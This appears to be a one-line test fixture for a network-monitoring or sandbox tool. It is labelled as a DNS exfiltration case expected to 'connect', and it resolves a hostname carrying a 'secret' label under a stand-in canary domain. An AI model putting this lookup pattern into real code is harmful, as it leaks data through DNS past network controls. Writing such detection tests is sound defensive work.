// class: network
// source: original (DNS exfiltration)
// expect: connect
InetAddress.getByName('secret.siteplan-canary.invalid')
